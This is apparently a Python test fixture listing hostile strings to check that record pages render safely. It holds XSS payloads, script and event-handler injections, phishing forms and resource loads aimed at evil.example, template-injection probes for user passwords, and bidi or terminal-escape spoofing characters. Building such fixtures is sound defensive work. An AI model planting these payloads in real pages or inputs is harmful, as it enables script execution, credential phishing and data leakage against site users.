"""Words that would act if a page let them: what callers and models write on the pages of the record."""

from __future__ import annotations

LONG = "W" * 4000

HOSTILE = (
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "</script><script>alert(2)</script>",
    "<img src=x onerror=alert(3)>",
    '<img src="https://evil.example/pixel.png">',
    "<svg onload=alert(4)><animate onbegin=alert(5) attributeName=x></svg>",
    '<svg><a xlink:href="javascript:alert(6)"><text>x</text></a></svg>',
    '<a href="javascript:alert(7)" autofocus onfocus=alert(8)>click</a>',
    "<iframe srcdoc='<script>parent.alert(9)</script>'></iframe>",
    '<iframe src="https://evil.example/frame"></iframe>',
    '<object data="https://evil.example/o.swf"></object><embed src="https://evil.example/e">',
    '<style>@import "https://evil.example/s.css"; body { display: none }</style>',
    '<link rel=stylesheet href="https://evil.example/l.css">',
    '<meta http-equiv=refresh content="0;url=https://evil.example/">',
    '<base href="https://evil.example/">',
    '<form action="https://evil.example/" method=post><button>Log in again</button></form>',
    "<details open ontoggle=alert(10)><summary>x</summary></details>",
    "<video><source onerror=alert(11)></video><audio src=x onerror=alert(12)>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(13)&gt;'>",
    "<!-- a comment --><!--[if IE]><script>alert(14)</script><![endif]-->",
    "]]><script>alert(15)</script><![CDATA[",
    '" onmouseover="alert(16)" x=\'',
    "' autofocus onfocus='alert(17)",
    "</textarea></title></div></section></main><script>alert(18)</script>",
    "{{ 7|add:7 }}{% load static %}{% csrf_token %}{{ request.user.password }}",
    "${alert(19)} #{alert(20)} <%= 7*7 %> {{constructor.constructor('alert(21)')()}}",
    "&lt;script&gt;alert(22)&lt;/script&gt; &#60;img src=x onerror=alert(23)&#62;",
    "+ADw-script+AD4-alert(24)+ADw-/script+AD4-",
    "![pixel](https://evil.example/m.png) [click](javascript:alert(25))",
    "data:text/html,<script>alert(26)</script>",
    "<p style=\"background:url('https://evil.example/c.png');position:fixed;inset:0\">over everything</p>",
    "<template><script>alert(27)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(28)>'>",
    "<mark id=finding-1 tabindex=-1 data-at=0>no finding</mark><span data-end class=not-yet>",
    "\u2028alert(29)\u2029//",
    "\u202ecod.exe\u202c \u2066isolated\u2069 \u200f\u200e",
    "zero\u200bwidth\u200d\ufeff\u2060 and soft\u00adhyphen",
    "tags \U000e0068\U000e0069 and \ufe0f\u3164 blanks",
    "null \x00 bell \x07 back\x08space delete \x7f next \x85",
    "\x1b[31mred\x1b[0m \x1b]8;;https://evil.example\x1b\\link\x1b]8;;\x1b\\ \x1b[2J",
    "cr\roverwritten lf\nlines\ttabs",
    "z\u0351\u036b\u0343\u036a\u0302\u036b\u033d\u034f\u0334\u0319\u0324algo",
    LONG,
)
HIDDEN = tuple(each for each in HOSTILE if any(c in each for c in "\u202e\u200b\x00\x1b\u2028\U000e0068"))
"""Those with characters that would not show, or would reorder what does."""
